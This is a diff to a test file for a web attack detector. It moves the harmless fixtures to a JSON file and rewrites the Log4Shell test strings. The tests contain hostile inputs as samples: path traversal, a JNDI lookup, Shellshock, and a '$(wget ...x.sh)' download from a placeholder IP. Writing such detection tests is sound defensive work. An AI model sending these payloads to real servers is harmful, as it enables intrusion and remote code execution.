@@ -1,6 +1,10 @@
+import { readFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
-import { benignAgents, benignValues } from './benign.fixture.ts'
 import { createDetector, defaultDetectorSettings } from './detector.ts'
+
+const { values, agents } = JSON.parse(
+  readFileSync(new URL('../../testdata/benign.json', import.meta.url), 'utf8'),
+) as { values: string[]; agents: string[] }
 
 const detector = createDetector()
 const empty = { userAgent: null, path: '/', query: '' }
@@ -8,11 +12,11 @@ const inQuery = (value: string) => detector.judge({ ...empty, query: `q=${encode
 const inBody = (value: string) => detector.judge({ ...empty, body: { field: value } })
 
 describe('what is harmless', () => {
-  it.each(benignValues)('passes: %s', (value) => {
+  it.each(values)('passes: %s', (value) => {
     expect([inQuery(value).action, inBody(value).action]).toEqual(['allow', 'allow'])
   })
 
-  it.each(benignAgents)('passes: %s', (userAgent) => {
+  it.each(agents)('passes: %s', (userAgent) => {
     expect(detector.judge({ ...empty, userAgent })).toMatchObject({ action: 'allow' })
   })
 })
@@ -30,7 +34,7 @@ describe('attacks', () => {
     ['traversal', '../../../../etc/passwd'],
     ['traversal', 'php://filter/convert.base64-encode/resource=index.php'],
     ['command', 'x; cat /etc/hosts'],
-    ['command', '${jndi:ldap://192.0.2.1/a}'.replace('$', '$')],
+    ['command', `\${jndi:ldap://192.0.2.1/a}`],
     ['command', '$(wget http://192.0.2.1/x.sh)'],
   ] as const)('are seen as %s: %s', (category, value) => {
     expect(inQuery(value).categories).toHaveProperty(category)
@@ -46,7 +50,7 @@ describe('attacks', () => {
     ]) {
       expect([path, detector.judge({ ...empty, path }).action]).not.toContain('allow')
     }
-    const headers = { 'x-forwarded-for': '${jndi:rmi://x}'.trim(), referer: 'https://a.example/' }
+    const headers = { 'x-forwarded-for': `\${jndi:rmi://x}`, referer: 'https://a.example/' }
     expect(detector.judge({ ...empty, headers }).categories).toHaveProperty('command')
     expect(detector.judge({ ...empty, userAgent: '() { :;}; /bin/id' }).categories).toHaveProperty('command')
     expect(detector.judge({ ...empty, userAgent: 'sqlmap/1.8' })).toMatchObject({
